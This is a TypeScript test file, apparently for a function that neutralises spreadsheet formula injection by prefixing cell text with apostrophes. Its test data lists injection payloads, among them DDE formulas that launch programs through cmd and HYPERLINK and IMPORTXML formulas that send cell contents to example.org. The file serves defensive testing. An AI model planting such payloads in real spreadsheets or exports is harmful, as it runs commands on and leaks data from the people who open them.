import fc from "fast-check";
import { expect, test } from "vitest";
import { harmlessText } from "./harmless-text.ts";

// As OWASP and the reports of bug hunters list them.
const attacks = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://example.org?leak="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://example.org?v=",CONCATENATE(A2:E2)),"//a")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  "-2+3+cmd|' /C calc'!A0",
  "   =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  '"=1+1',
  "'=1+1",
  '" =1+1',
  "\u201c=1+1",
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1",
  "\uff20SUM(1)",
  "\u22121",
  "\tharmless, and yet it begins with a tab",
];

test.each(attacks)("%j is text, not a formula", (attack) => {
  expect(harmlessText(attack)).toBe(`'${attack}`);
});

test.each([
  ["\t=1+1", "'\t'=1+1"],
  ["\r=1+1", "'\r'=1+1"],
  ["\n=1+1", "'\n'=1+1"],
  ["hello;=1+1", "hello;'=1+1"],
  ['hello;"=1+1', "hello;'\"=1+1"],
  ["first line\n@SUM(1)", "first line\n'@SUM(1)"],
  ["a\t+1", "a\t'+1"],
  ["a; -2+3+cmd|' /C calc'!A0", "a;' -2+3+cmd|' /C calc'!A0"],
  ["a;-cmd|' /C calc'!A0", "a;'-cmd|' /C calc'!A0"],
])("where a semicolon, a tab or a line's end may cut %j, the rest is text too", (text, harmless) => {
  expect(harmlessText(text)).toBe(harmless);
});

test.each([
  "",
  "Ada Lovelace",
  "What is 1+1=2?",
  "ada@example.org",
  "a - b; c",
  "nice ;-) really",
  "see you ;-D",
  "one\n- two\n- three",
  "'quoted'",
  "naïve 日本語 👩‍👩‍👧",
])("%j stays as it is", (text) => {
  expect(harmlessText(text)).toBe(text);
});

test("nothing is lost: only apostrophes are put in, and no cell begins like a formula", () => {
  const part = fc.constantFrom(
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    " ",
    '"',
    "'",
    ";",
    "1",
    "ab",
    "\uff1d",
    "\u200b",
  );
  fc.assert(
    fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
      const text = parts.join("");
      const harmless = harmlessText(text);
      expect(harmless.replaceAll("'", "")).toBe(text.replaceAll("'", ""));
      expect(harmless).not.toMatch(/^[\s\p{Cf}"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u);
      expect(harmless).not.toMatch(/^[\t\r\n]/);
    }),
  );
});
